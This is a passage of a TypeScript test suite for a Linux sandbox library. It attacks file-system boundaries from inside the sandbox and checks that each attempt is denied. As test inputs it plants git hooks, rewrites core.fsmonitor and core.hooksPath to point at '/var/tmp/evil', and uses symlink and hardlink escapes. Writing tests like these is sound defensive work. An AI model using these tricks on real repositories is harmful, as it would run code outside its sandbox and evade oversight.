/**
 * File-system threat classes (reference/threats.md FS-01..FS-27), attacked for real from inside
 * the sandbox in both Linux modes.
 *
 * Oracle: the attempt fails inside with a denial errno AND the outside is unchanged (contents,
 * mode, owner, mtime, xattrs, no new files). Every denial is paired with a positive control: the
 * same probe with the rule allowing it (or unsandboxed) succeeds. Classes Landlock mode cannot
 * express (carve-outs, metadata) run in isolated mode; in Landlock mode the test asserts that the
 * gap is listed in the enforcement report instead. Deny-read runs in both modes (Landlock mode
 * carves it out of its rules; test/linux/landlock-deny-read.test.ts has the rest).
 */
import { execFileSync, spawn as spawnHost } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { run } from '../../lib/index';
import type { SandboxPolicy } from '../../lib/policy-types';
import { caps, MODES, modePolicy, type LinuxMode } from '../helpers/capabilities';
import { DENIED, expectDenied } from '../helpers/denied';
import { git } from '../helpers/git';
import {
  BASE_ENV,
  expectUnchanged,
  expectNoMountLeak,
  hostMounts,
  DIST_INDEX,
  hostScript,
  makeScene,
  NODE,
  PROBE,
  probeOps,
  py,
  PYTHON,
  sh,
  snapshot,
  type Scene,
} from '../helpers/sandbox';

// Creating a protected name may also fail on what holds it (a placeholder, a missing parent).
const CREATE_DENIED = [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT', 'EISDIR'];

const mountsAtStart = caps.linux ? hostMounts() : [];

const SETPRIV = fs.existsSync('/usr/bin/setpriv') ? '/usr/bin/setpriv' : null;
// eslint-disable-next-line no-console
if (caps.root && !SETPRIV) console.warn('[threats-fs] SKIPPING the unreadable-directory tests as root: no setpriv to drop the DAC capabilities');

interface PlannerResult {
  stdout?: string;
  code?: number | null;
  gaps?: string[];
  protectedPaths?: string;
  thrown?: string;
  message?: string;
  unknown?: string[];
  paths?: string[];
}

/**
 * Runs `script` sandboxed from a separate host process that cannot bypass file modes: as root
 * it runs without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (dropped from the bounding set, so
 * exec does not grant them), otherwise as the caller.
 */
function unprivilegedPlanner(dir: string, cwd: string, policy: SandboxPolicy, script: string, expr?: string): PlannerResult {
  const file = hostScript(
    dir,
    `planner-${Math.random().toString(36).slice(2)}.js`,
    expr !== undefined
      ? `console.log(JSON.stringify(${expr}));`
      : `lib.run('/bin/sh', ['-c', ${JSON.stringify(script)}], { cwd: ${JSON.stringify(cwd)}, env: ${JSON.stringify(BASE_ENV)}, policy: ${JSON.stringify(policy)} })
       .then((r) => console.log(JSON.stringify({ stdout: r.stdout, code: r.code, gaps: r.enforcement.gaps, protectedPaths: r.enforcement.guarantees.protectedPaths })))
       .catch((e) => console.log(JSON.stringify({ thrown: String(e.code || e), message: String(e.message) })));`,
  );
  const argv = caps.root ? [SETPRIV!, '--bounding-set', '-dac_override,-dac_read_search', NODE, file] : [NODE, file];
  const out = execFileSync(argv[0]!, argv.slice(1), { encoding: 'utf8', timeout: 60_000 });
  return JSON.parse(out.trim().split('\n').pop()!) as PlannerResult;
}

describe.runIf(caps.linux)('file-system threats', () => {
  describe.each(MODES)('$name mode', ({ name: mode, skip }) => {
    let scene: Scene;
    let policy: SandboxPolicy;
    const isolated = mode === 'isolated';
    // Read-only carve-outs: isolated mode's read-only binds, or Landlock mode's path supervisor.
    const holdsCarveouts = isolated || caps.metadataSupervisor;

    beforeEach(() => {
      scene = makeScene(`fs-${mode}`);
      policy = modePolicy(mode, { filesystem: { write: [scene.ws] } });
    });
    afterEach(() => {
      scene.cleanup();
      expectNoMountLeak(mountsAtStart, [scene.root]);
    });

    const writable = (s: Scene): SandboxPolicy => modePolicy(mode as LinuxMode, { filesystem: { write: [s.ws, s.out] } });

    it.skipIf(skip)('FS-01: writes outside the writable roots are refused; inside they work', async () => {
      const before = snapshot(scene.out);
      const ops = [
        ['write', `${scene.out}/new.txt`],
        ['write', `${scene.out}/ro.txt`],
        ['append', `${scene.out}/ro.txt`],
        ['create', `${scene.out}/dir/new`],
        ['write', `${scene.root}/beside-ws.txt`],
        ['unlink', `${scene.out}/secret.txt`],
        ['rmrf', `${scene.out}/dir`],
      ];
      expectDenied(await probeOps(ops, { cwd: scene.ws, policy }), 'outside write');
      expectUnchanged(before, snapshot(scene.out));
      expect(fs.existsSync(`${scene.root}/beside-ws.txt`)).toBe(false);
      // Positive controls: the workspace is writable, and the same ops succeed once allowed.
      expect(await probeOps([['write', `${scene.ws}/in.txt`, 'inside']], { cwd: scene.ws, policy })).toEqual(['ok']);
      expect(fs.readFileSync(`${scene.ws}/in.txt`, 'utf8')).toBe('inside');
      expect(await probeOps(ops.slice(0, 4), { cwd: scene.ws, policy: writable(scene) })).toEqual(['ok', 'ok', 'ok', 'ok']);
    });

    it.skipIf(skip)('FS-02: a symlink planted in the workspace does not lead out', async () => {
      const before = snapshot(scene.out);
      const ops = [
        ['symlink', `${scene.out}/ro.txt`, `${scene.ws}/to-file`],
        ['write', `${scene.ws}/to-file`],
        ['symlink', `${scene.out}/dir`, `${scene.ws}/to-dir`],
        ['write', `${scene.ws}/to-dir/planted`],
        ['symlink', '../out/ro.txt', `${scene.ws}/rel`],
        ['truncate', `${scene.ws}/rel`],
        ['write', `${scene.ws}/../out/ro.txt`],
      ];
      const r = await probeOps(ops, { cwd: scene.ws, policy });
      expect([r[0], r[2], r[4]]).toEqual(['ok', 'ok', 'ok']); // planting the links is allowed
      expectDenied([r[1], r[3], r[5], r[6]], 'write through symlink');
      expectUnchanged(before, snapshot(scene.out));
      // Control: the same links work when the target is writable.
      const s2 = makeScene(`fs2-${mode}`);
      try {
        const ops2 = ops.map((o) => o.map((x) => x.replaceAll(scene.root, s2.root)));
        expect(await probeOps(ops2, { cwd: s2.ws, policy: writable(s2) })).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
      } finally {
        s2.cleanup();
      }
    });

    it.skipIf(skip)('FS-04: an outside file hardlinked into the workspace cannot be written', async () => {
      const before = snapshot(scene.out);
      const r = await probeOps(
        [
          ['link', `${scene.out}/ro.txt`, `${scene.ws}/hl`],
          ['write', `${scene.ws}/hl`],
          ['write', `${scene.ws}/own.txt`, 'x'],
          ['link', `${scene.ws}/own.txt`, `${scene.out}/planted`],
        ],
        { cwd: scene.ws, policy },
      );
      expect(r[2]).toBe('ok');
      expectDenied([r[0], r[3]], 'link across the boundary');
      // The link failed, so writing ws/hl just makes a new workspace file; the outside inode
      // (checked below) must be untouched either way.
      expect(['ok', ...DENIED]).toContain(r[1]);
      expect(fs.statSync(`${scene.out}/ro.txt`).nlink).toBe(1);
      expectUnchanged(before, snapshot(scene.out));
      // Control: unsandboxed, the same link works (the attack is real).
      expect(await probeOps([['link', `${scene.out}/ro.txt`, `${scene.root}/hl-control`]], { cwd: scene.ws, policy: null })).toEqual(['ok']);
    });

    it.skipIf(skip)('FS-05: rename across the boundary fails in both directions', async () => {
      fs.writeFileSync(`${scene.ws}/mine.txt`, 'mine');
      const before = snapshot(scene.out);
      const r = await probeOps(
        [
          ['rename', `${scene.out}/ro.txt`, `${scene.ws}/stolen.txt`],
          ['rename', `${scene.out}/dir`, `${scene.ws}/stolen-dir`],
          ['rename', `${scene.ws}/mine.txt`, `${scene.out}/mine.txt`],
          ['rename', `${scene.ws}/mine.txt`, `${scene.out}/ro.txt`],
        ],
        { cwd: scene.ws, policy },
      );
      expectDenied(r, 'rename across');
      expectUnchanged(before, snapshot(scene.out));
      expect(fs.readFileSync(`${scene.ws}/mine.txt`, 'utf8')).toBe('mine');
      // Control: renames inside the workspace work.
      expect(await probeOps([['rename', `${scene.ws}/mine.txt`, `${scene.ws}/moved.txt`]], { cwd: scene.ws, policy })).toEqual(['ok']);
      expect(await probeOps([['rename', `${scene.out}/ro.txt`, `${scene.out}/ro2.txt`]], { cwd: scene.ws, policy: null })).toEqual(['ok']);
    });

    describe('protected paths inside a writable root', () => {
      it.runIf(!skip && !holdsCarveouts)('Landlock mode lists carve-outs as a gap', async () => {
        git(scene.ws, 'init', '-q');
        const r = await sh('true', { cwd: scene.ws, policy });
        expect(r.enforcement.guarantees.protectedPaths).toBe('not-enforced');
        expect(r.enforcement.gaps.join('\n')).toMatch(/read-only carve-outs inside writable roots are not enforced:.*\.git\/hooks/);
        await expect(sh('true', { cwd: scene.ws, policy: { ...policy, degraded: false } })).rejects.toMatchObject({ code: 'EUNSUPPORTED_POLICY' });
      });

      it.runIf(!skip && holdsCarveouts)('FS-06: a carve-out cannot be moved away, removed or recreated', async () => {
        git(scene.ws, 'init', '-q');
        fs.mkdirSync(`${scene.ws}/notgit/hooks`, { recursive: true });
        const gitBefore = snapshot(`${scene.ws}/.git`);
        const r = await probeOps(
          [
            ['rename', `${scene.ws}/.git`, `${scene.ws}/git-old`],
            ['rename', `${scene.ws}/.git/hooks`, `${scene.ws}/.git/hooks-old`],
            ['rmrf', `${scene.ws}/.git/hooks`],
            ['rename', `${scene.ws}/.git/config`, `${scene.ws}/.git/config-old`],
            ['unlink', `${scene.ws}/.git/config`],
            ['write', `${scene.ws}/.git/config`, '[core]\n\thooksPath = /var/tmp\n'],
            ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
            ['rename', `${scene.ws}/.codex`, `${scene.ws}/codex-old`],
            ['link', `${scene.ws}/.git/config`, `${scene.ws}/config-alias`],
            ['rename', `${scene.ws}/notgit/hooks`, `${scene.ws}/.git/hooks/planted`],
            ['symlink', `${scene.ws}/notgit`, `${scene.ws}/.git/hooks/link`],
          ],
          { cwd: scene.ws, policy },
        );
        // (.codex is missing here: isolated mode's placeholder answers EBUSY, Landlock mode ENOENT.)
        expectDenied(r, 'carve-out tampering', [...DENIED, 'ENOTEMPTY', ...(isolated ? [] : ['ENOENT'])]);
        expect(fs.existsSync(`${scene.ws}/config-alias`)).toBe(false);
        expectUnchanged(gitBefore, snapshot(`${scene.ws}/.git`), '.git');
        expect(fs.existsSync(`${scene.ws}/git-old`)).toBe(false);
        // Control: the same moves on an unprotected look-alike work inside the same sandbox.
        expect(
          await probeOps(
            [
              ['rename', `${scene.ws}/notgit/hooks`, `${scene.ws}/notgit/hooks-old`],
              ['mkdir', `${scene.ws}/notgit/hooks`],
              ['write', `${scene.ws}/notgit/hooks/pre-commit`],
            ],
            { cwd: scene.ws, policy },
          ),
        ).toEqual(['ok', 'ok', 'ok']);
        // ...and .git itself stays usable: objects and refs are writable.
        expect(await probeOps([['write', `${scene.ws}/.git/description`, 'ok']], { cwd: scene.ws, policy })).toEqual(['ok']);
      });

      // An independent repository nested in the workspace has hooks and config of its own.
      // A protected name that is a symlink (.codex -> real, .git/hooks -> ../shared-hooks): the
      // link itself is an ordinary entry of the writable root, so the command could remove it,
      // make a real directory of that name and plant config.toml / a hook. Secure outcomes: the
      // run is refused with a code, or the link cannot be replaced.
      it.runIf(!skip && holdsCarveouts)('FS-06: a carve-out that is a symlink cannot be replaced', async () => {
        fs.mkdirSync(`${scene.ws}/real`);
        fs.symlinkSync('real', `${scene.ws}/.codex`);
        git(scene.ws, 'init', '-q');
        fs.renameSync(`${scene.ws}/.git/hooks`, `${scene.ws}/shared-hooks`);
        fs.symlinkSync('../shared-hooks', `${scene.ws}/.git/hooks`);
        const ops = [
          ['write', `${scene.ws}/real/config.toml`, 'x'],
          ['unlink', `${scene.ws}/.codex`],
          ['mkdir', `${scene.ws}/.codex`],
          ['write', `${scene.ws}/.codex/config.toml`, 'evil = 1'],
          ['unlink', `${scene.ws}/.git/hooks`],
          ['mkdir', `${scene.ws}/.git/hooks`],
          ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
        ];
        let r: string[] | null = null;
        try {
          r = await probeOps(ops, { cwd: scene.ws, policy });
        } catch (e) {
          expect(e, 'refused before anything ran').toMatchObject({ name: 'SandboxError', code: expect.stringMatching(/^E[A-Z_]+$/) });
        }
        if (r) expect(r[0], 'the link target itself is protected').not.toBe('ok');
        const planted = ['.codex/config.toml', '.git/hooks/pre-commit'].filter((p) => fs.existsSync(path.join(scene.ws, p)));
        expect(planted, JSON.stringify(r)).toEqual([]);
        expect(fs.lstatSync(`${scene.ws}/.codex`).isSymbolicLink()).toBe(true);
        // Control: with degraded: true (the documented escape hatch) the run goes ahead.
        const d = await run('/bin/true', [], { cwd: scene.ws, env: BASE_ENV, policy: { ...policy, degraded: true } }).catch((e: unknown) => e);
        expect(d).toMatchObject({ code: 0 });
      });

      it.runIf(!skip && holdsCarveouts)("git: 'whole' keeps all of .git read-only; hooks-and-config keeps objects writable", async () => {
        git(scene.ws, 'init', '-q');
        fs.writeFileSync(`${scene.ws}/a.txt`, 'a');
        const before = snapshot(`${scene.ws}/.git`);
        const env = { ...BASE_ENV, HOME: scene.ws, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
        const whole = modePolicy(mode, { filesystem: { write: [scene.ws], git: 'whole' } });
        const r = await sh('git add a.txt && git commit -qm x; echo rc=$?; echo y > .git/description; echo desc=$?', { cwd: scene.ws, env, policy: whole });
        expect(r.stdout).toMatch(/rc=[1-9]/);
        expect(r.stdout).toMatch(/desc=[1-9]/);
        expectUnchanged(before, snapshot(`${scene.ws}/.git`));
        // Control: the default protection lets the same commit through.
        const ok = await sh('git add a.txt && git commit -qm x; echo rc=$?', { cwd: scene.ws, env, policy });
        expect(ok.stdout.trim()).toBe('rc=0');
      });

      it.runIf(!skip && holdsCarveouts)('FS-08: a nested repository keeps its hooks and config read-only', async () => {
        git(scene.ws, 'init', '-q');
        fs.mkdirSync(`${scene.ws}/sub`);
        git(`${scene.ws}/sub`, 'init', '-q');
        const before = snapshot(`${scene.ws}/sub/.git`);
        const r = await probeOps(
          [
            ['write', `${scene.ws}/sub/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
            ['append', `${scene.ws}/sub/.git/config`, '\n[core]\n\tfsmonitor = /var/tmp/evil\n'],
          ],
          { cwd: scene.ws, policy },
        );
        expectDenied(r, 'nested repo metadata');
        expectUnchanged(before, snapshot(`${scene.ws}/sub/.git`));
      });

      // A run that makes a directory unreadable (`chmod 000 libs`) used to hide the repository in
      // it from the next run's planner, which then left libs/x/.git/hooks writable and still
      // reported protectedPaths 'enforced'. An unreadable directory is unknown, not empty: it is
      // protected whole and the report says so. Root reads mode-000 directories anyway (DAC
      // override), so as root the next run is planned by a host process without
      // CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (as in a container that drops them), where the
      // walk really fails; unprivileged, an ordinary host process.
      for (const preset of [false, true]) {
        it.skipIf(skip || (caps.root && !SETPRIV))(
          `FS-08: an unreadable directory does not hide a nested repository${preset ? ' (startup-files walk)' : ''}`,
          async () => {
            const repo = `${scene.ws}/libs/x`;
            fs.mkdirSync(repo, { recursive: true });
            git(repo, 'init', '-q');
            const hook = `${repo}/.git/hooks/pre-commit`;
            fs.writeFileSync(hook, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
            const rc = `${scene.ws}/libs/.vscode`;
            fs.mkdirSync(rc, { recursive: true });
            fs.writeFileSync(`${rc}/tasks.json`, '{}');
            const pol = modePolicy(mode, { filesystem: { write: [scene.ws], ...(preset ? { protectPresets: ['startup-files' as const] } : {}) } });
            // Run 1: the command makes libs unreadable (allowed: libs is its own).
            const r1 = await sh('chmod 000 libs; echo rc=$?', { cwd: scene.ws, policy: pol });
            expect(r1.stdout.trim(), r1.stderr).toBe('rc=0');
            expect(fs.statSync(`${scene.ws}/libs`).mode & 0o777, 'run 1 did not chmod libs').toBe(0);
            const hostile =
              'chmod 755 libs; printf pwned > libs/x/.git/hooks/pre-commit; printf pwned > libs/.vscode/tasks.json; ' +
              'echo ok > other.txt; echo done';
            const r2 = unprivilegedPlanner(scene.root, scene.ws, pol, hostile);
            fs.chmodSync(`${scene.ws}/libs`, 0o755); // (from outside, to read the files back)
            const gaps = (r2.gaps ?? []).join('\n');
            expect(gaps, JSON.stringify(r2)).toMatch(new RegExp(`unreadable directories in ${scene.ws} are protected whole \\(read-only\\): ${scene.ws}/libs\\b`));
            if (holdsCarveouts) {
              expect(r2.stdout, JSON.stringify(r2)).toContain('done'); // the command ran
              expect(fs.readFileSync(hook, 'utf8'), 'the nested repository hook was rewritten').toBe('#!/bin/sh\nexit 0\n');
              expect(fs.readFileSync(`${rc}/tasks.json`, 'utf8')).toBe('{}');
              expect(r2.protectedPaths).toBe('partial');
              // Control: the rest of the workspace stays writable in the same run.
              expect(fs.readFileSync(`${scene.ws}/other.txt`, 'utf8')).toBe('ok\n');
            } else {
              // Landlock mode cannot hold carve-outs: the report says so, naming libs, and without
              // degraded the run is refused (checked from outside: the hook is untouched).
              expect(r2.protectedPaths).toBe('not-enforced');
              expect(gaps).toMatch(new RegExp(`carve-outs inside writable roots are not enforced: .*${scene.ws}/libs\\b`));
              fs.writeFileSync(hook, '#!/bin/sh\nexit 0\n');
              fs.chmodSync(`${scene.ws}/libs`, 0);
              const r3 = unprivilegedPlanner(scene.root, scene.ws, { ...pol, degraded: false }, hostile);
              fs.chmodSync(`${scene.ws}/libs`, 0o755);
              expect(r3.thrown, JSON.stringify(r3)).toBe('EUNSUPPORTED_POLICY');
              expect(fs.readFileSync(hook, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
            }
            if (preset) {
              // The start-up file search itself (not only the repository search) sees libs as unknown.
              fs.chmodSync(`${scene.ws}/libs`, 0);
              const found = unprivilegedPlanner(scene.root, scene.ws, pol, '', `require(${JSON.stringify(path.join(path.dirname(DIST_INDEX), 'permissions', 'resolve.js'))}).startupFilesFor(${JSON.stringify(scene.ws)}, true)`);
              fs.chmodSync(`${scene.ws}/libs`, 0o755);
              expect(found.unknown, JSON.stringify(found)).toEqual([`${scene.ws}/libs`]);
              expect(found.paths).not.toContain(`${rc}`);
            }
            // Control: with libs readable again the walk finds the repository and protects just
            // its hooks; no unreadable-directory gap.
            fs.writeFileSync(hook, '#!/bin/sh\nexit 0\n');
            const r4 = unprivilegedPlanner(scene.root, scene.ws, pol, 'printf pwned > libs/x/.git/hooks/pre-commit; echo ok > libs/free.txt; echo done');
            expect((r4.gaps ?? []).join('\n')).not.toContain('unreadable directories');
            if (holdsCarveouts) {
              expect(fs.readFileSync(hook, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
              expect(fs.readFileSync(`${scene.ws}/libs/free.txt`, 'utf8')).toBe('ok\n');
              expect(r4.protectedPaths, JSON.stringify(r4.gaps)).toBe('enforced');
            }
          },
        );
      }

      // node_modules is never walked (too big), but a package checked out from git keeps hooks
      // that run when git is used there: its packages are probed one level deep for .git.
      it.runIf(!skip && holdsCarveouts)('FS-08: a repository inside node_modules keeps its hooks read-only', async () => {
        const pkgs = [`${scene.ws}/node_modules/gitpkg`, `${scene.ws}/node_modules/@scope/scoped`];
        for (const p of pkgs) {
          fs.mkdirSync(p, { recursive: true });
          git(p, 'init', '-q');
          fs.writeFileSync(`${p}/index.js`, 'module.exports = 1;\n');
        }
        const before = pkgs.map((p) => snapshot(`${p}/.git`));
        const r = await run(
          NODE,
          [PROBE, JSON.stringify([...pkgs.map((p) => ['write', `${p}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n']), ['write', `${pkgs[0]}/index.js`, 'changed']])],
          { cwd: scene.ws, env: BASE_ENV, policy },
        );
        const res = JSON.parse(/PROBE (.*)/.exec(r.stdout)![1]!) as string[];
        expectDenied(res.slice(0, 2), 'hooks of a repository in node_modules');
        pkgs.forEach((p, i) => expectUnchanged(before[i]!, snapshot(`${p}/.git`), `${p}/.git`));
        expect(r.enforcement.guarantees.protectedPaths).toBe('enforced');
        // Control: the package's own files stay writable.
        expect(res[2]).toBe('ok');
        expect(fs.readFileSync(`${pkgs[0]}/index.js`, 'utf8')).toBe('changed');
      });

      // A repository whose (protected) config sets core.hooksPath to a directory inside the
      // workspace, as husky does (.husky/_ or .husky): a hook planted there would run at the next
      // `git commit` outside the sandbox.
      it.runIf(!skip && holdsCarveouts)('FS-12: hooks in a core.hooksPath directory inside the workspace stay read-only', async () => {
        git(scene.ws, 'init', '-q');
        git(scene.ws, 'config', 'core.hooksPath', '.husky');
        fs.mkdirSync(`${scene.ws}/.husky`);
        const r = await probeOps([['write', `${scene.ws}/.husky/pre-commit`, '#!/bin/sh\necho HOOK-RAN\n'], ['chmod', `${scene.ws}/.husky/pre-commit`, '755']], { cwd: scene.ws, policy });
        const planted = fs.existsSync(`${scene.ws}/.husky/pre-commit`);
        let ran = '';
        if (planted) ran = git(scene.ws, 'commit', '-q', '--allow-empty', '-m', 'outside');
        expect({ r, planted, ran }).toMatchObject({ planted: false });
      });

      // Besides core.hooksPath, git config can name programs by path (core.fsmonitor,
      // core.sshCommand, diff.external, filter.*.clean/smudge/process, credential.helper,
      // alias.x = !cmd). When that program lives in the writable workspace it is protected, or the
      // command could rewrite it and the next `git status` outside would run it.
      it.runIf(!skip && holdsCarveouts)('FS-12: a program that git config names inside the workspace stays read-only', async () => {
        git(scene.ws, 'init', '-q');
        fs.mkdirSync(`${scene.ws}/tools`);
        fs.writeFileSync(`${scene.ws}/tools/fsmon.sh`, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
        git(scene.ws, 'config', 'core.fsmonitor', `${scene.ws}/tools/fsmon.sh`);
        const before = snapshot(`${scene.ws}/tools`);
        const r = await probeOps([['write', `${scene.ws}/tools/fsmon.sh`, '#!/bin/sh\necho FSMON-RAN >&2\nexit 0\n']], { cwd: scene.ws, policy });
        expect(r[0]).not.toBe('ok');
        expectUnchanged(before, snapshot(`${scene.ws}/tools`));
      });

      // Nested repositories are searched 3 levels deep (and within 256 directories), so that
      // planning stays cheap in big trees. A repository deeper than that keeps writable hooks and
      // config: the report must say so (and protectedPaths is then 'partial'), or it is protected.
      it.runIf(!skip && holdsCarveouts)('FS-08: a nested repository four levels down is protected or listed as a gap', async () => {
        git(scene.ws, 'init', '-q');
        const deep = `${scene.ws}/a/b/c/d`;
        fs.mkdirSync(deep, { recursive: true });
        git(deep, 'init', '-q');
        const res = await run(NODE, [PROBE, JSON.stringify([['write', `${deep}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n']])], {
          cwd: scene.ws,
          env: BASE_ENV,
          policy,
        });
        const denied = !res.stdout.includes('PROBE ["ok"]');
        const gap = res.enforcement.gaps.find((g) => g.includes(`nested repositories in ${scene.ws} are searched`));
        expect(denied || gap !== undefined, `${res.stdout} ${JSON.stringify(res.enforcement.gaps)}`).toBe(true);
        if (!denied) expect(res.enforcement.guarantees.protectedPaths).toBe('partial');
        // Control: a shallow tree is searched to the end: no such gap, and its nested repo is protected.
        const s2 = makeScene(`fs8-${mode}`);
        try {
          git(s2.ws, 'init', '-q');
          fs.mkdirSync(`${s2.ws}/a`);
          git(`${s2.ws}/a`, 'init', '-q');
          const pol2 = modePolicy(mode, { filesystem: { write: [s2.ws] } });
          const r2 = await run(NODE, [PROBE, JSON.stringify([['write', `${s2.ws}/a/.git/hooks/pre-commit`, 'x']])], { cwd: s2.ws, env: BASE_ENV, policy: pol2 });
          expect(r2.stdout).not.toContain('PROBE ["ok"]');
          expect(r2.enforcement.gaps.join('\n')).not.toContain('nested repositories in');
        } finally {
          s2.cleanup();
        }
      });

      it.runIf(!skip && holdsCarveouts)('FS-09: a gitdir pointer file is followed and the pointer itself is protected', async () => {
        // ws/repo/.git is a pointer to ws/store (the gitdir lives inside the writable root too).
        fs.mkdirSync(`${scene.ws}/repo`);
        git(scene.ws, 'init', '-q', '--separate-git-dir', `${scene.ws}/store`, `${scene.ws}/repo`);
        expect(fs.readFileSync(`${scene.ws}/repo/.git`, 'utf8')).toMatch(/^gitdir: /);
        const pol = modePolicy(mode, { filesystem: { write: [`${scene.ws}/repo`, `${scene.ws}/store`] } });
        const before = snapshot(scene.ws);
        const r = await probeOps(
          [
            ['write', `${scene.ws}/store/hooks/post-checkout`, '#!/bin/sh\necho pwned\n'],
            ['append', `${scene.ws}/store/config`, '\n[core]\n\thooksPath = /var/tmp\n'],
            ['write', `${scene.ws}/repo/.git`, `gitdir: ${scene.out}\n`],
            ['unlink', `${scene.ws}/repo/.git`],
          ],
          { cwd: `${scene.ws}/repo`, policy: pol },
        );
        expectDenied(r, 'worktree pointer');
        expectUnchanged(before, snapshot(scene.ws));
        // Control: the rest of the gitdir is writable (git needs it).
        expect(await probeOps([['write', `${scene.ws}/store/description`, 'x']], { cwd: `${scene.ws}/repo`, policy: pol })).toEqual(['ok']);
      });

      it.runIf(!skip && holdsCarveouts)('FS-10: protected paths absent at start cannot be created, and leave no ghost behind', async () => {
        git(scene.ws, 'init', '-q');
        fs.rmSync(`${scene.ws}/.git/hooks`, { recursive: true });
        const custom = `${scene.ws}/deploy.sh`;
        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], protect: [custom] } });
        const before = snapshot(scene.ws);
        const r = await probeOps(
          [
            ['mkdir', `${scene.ws}/.codex`],
            ['write', `${scene.ws}/.codex/config.toml`, 'x'],
            ['mkdirp', `${scene.ws}/.agents/skills`],
            ['write', `${scene.ws}/.agents`, 'x'],
            ['mkdir', `${scene.ws}/.git/hooks`],
            ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\n'],
            ['write', custom, '#!/bin/sh\necho pwned\n'],
          ],
          { cwd: scene.ws, policy: pol },
        );
        expectDenied(r, 'create protected', CREATE_DENIED);
        // After the run the placeholders are gone and nothing else appeared.
        expectUnchanged(before, snapshot(scene.ws));
        // Control: a look-alike name is creatable in the same sandbox.
        expect(await probeOps([['mkdirp', `${scene.ws}/.codexx/x`]], { cwd: scene.ws, policy: pol })).toEqual(['ok']);
      });

      // With no .git at start, the name itself is held by a placeholder (as Codex does), so the
      // command cannot plant .git/config (core.fsmonitor, core.hooksPath) or .git/hooks/* that the
      // next `git status` outside runs. git: 'allow-init' is the explicit opt-out (tools.test.ts).
      it.runIf(!skip && holdsCarveouts)('FS-10: a workspace without .git cannot gain git metadata that runs outside later', async () => {
        const ops = [
          ['mkdirp', `${scene.ws}/.git/hooks`],
          ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
          ['write', `${scene.ws}/.git/config`, '[core]\n\tfsmonitor = /var/tmp/evil\n'],
        ];
        const before = snapshot(scene.ws);
        const r = await probeOps(ops, { cwd: scene.ws, policy });
        expectDenied(r, 'create .git', CREATE_DENIED);
        expectUnchanged(before, snapshot(scene.ws));
        expect(fs.existsSync(path.join(scene.ws, '.git'))).toBe(false);
        // Control: the opt-in lets the same ops through (and the report says so).
        const allow = modePolicy(mode, { filesystem: { write: [scene.ws], git: 'allow-init' } });
        expect(await probeOps(ops, { cwd: scene.ws, policy: allow })).toEqual(['ok', 'ok', 'ok']);
        expect(fs.existsSync(path.join(scene.ws, '.git/hooks/pre-commit'))).toBe(true);
      });

      // A protected path whose parent is missing too: its first missing directory is held, so the
      // chain cannot be created (husky's core.hooksPath before .husky exists; a `protect` entry).
      it.runIf(!skip && holdsCarveouts)('FS-10: a protected path whose parents are missing cannot be created either', async () => {
        git(scene.ws, 'init', '-q');
        git(scene.ws, 'config', 'core.hooksPath', '.husky/_');
        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], protect: [`${scene.ws}/tools/bin/deploy.sh`] } });
        const before = snapshot(scene.ws);
        const r = await probeOps(
          [
            ['mkdirp', `${scene.ws}/.husky/_`],
            ['write', `${scene.ws}/.husky/_/pre-commit`, '#!/bin/sh\necho pwned\n'],
            ['mkdirp', `${scene.ws}/tools/bin`],
            ['write', `${scene.ws}/tools/bin/deploy.sh`, '#!/bin/sh\necho pwned\n'],
          ],
          { cwd: scene.ws, policy: pol },
        );
        expectDenied(r, 'create under a missing parent', CREATE_DENIED);
        expectUnchanged(before, snapshot(scene.ws));
        // Control: a sibling tree is creatable in the same sandbox.
        expect(await probeOps([['mkdirp', `${scene.ws}/toolz/bin`]], { cwd: scene.ws, policy: pol })).toEqual(['ok']);
      });

      // A protected path reached through a symlink inside the writable root (.git itself, a
      // core.hooksPath directory, a link on the way to it): protecting only the target leaves the
      // link replaceable by a real directory holding planted hooks. Isolated mode refuses unless
      // degraded (a mount cannot hold a link), and degraded lists the link as a gap.
      describe.runIf(!skip && holdsCarveouts)('FS-28: symlinked protected paths', () => {
        const scenarios: Array<{ name: string; setup: (ws: string) => void; link: string; plant: string }> = [
          {
            name: '.git itself is a symlink to a gitdir in the workspace',
            setup: (ws) => {
              git(ws, 'init', '-q');
              fs.renameSync(`${ws}/.git`, `${ws}/realgit`);
              fs.symlinkSync('realgit', `${ws}/.git`);
            },
            link: '.git',
            plant: '.git/hooks/pre-commit',
          },
          {
            name: 'core.hooksPath is a symlink',
            setup: (ws) => {
              git(ws, 'init', '-q');
              fs.mkdirSync(`${ws}/realhooks`);
              fs.symlinkSync('realhooks', `${ws}/hooks-link`);
              git(ws, 'config', 'core.hooksPath', 'hooks-link');
            },
            link: 'hooks-link',
            plant: 'hooks-link/pre-commit',
          },
          {
            name: 'a directory on the way to core.hooksPath is a symlink',
            setup: (ws) => {
              git(ws, 'init', '-q');
              fs.mkdirSync(`${ws}/realtools/hooks`, { recursive: true });
              fs.symlinkSync('realtools', `${ws}/tools`);
              git(ws, 'config', 'core.hooksPath', 'tools/hooks');
            },
            link: 'tools',
            plant: 'tools/hooks/pre-commit',
          },
          {
            name: '.agents is a symlink',
            setup: (ws) => {
              fs.mkdirSync(`${ws}/realagents`);
              fs.symlinkSync('realagents', `${ws}/.agents`);
            },
            link: '.agents',
            plant: '.agents/skills.md',
          },
        ];
